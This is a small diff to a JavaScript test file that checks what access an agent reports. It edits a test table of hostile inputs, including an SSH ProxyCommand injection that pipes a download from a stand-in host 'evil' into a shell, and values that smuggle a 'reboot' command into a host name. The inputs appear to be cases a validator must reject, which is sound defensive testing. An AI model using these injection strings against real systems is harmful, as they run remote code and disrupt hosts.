@@ -31,7 +31,7 @@ describe('the access that an agent reports', () => {
   );
 
   it.each([
-    '-oProxyCommand=curl${IFS}evil|sh',
+    '-oProxyCommand=curl\u0024{IFS}evil|sh',
     '-l',
     'host;reboot',
     'host reboot',
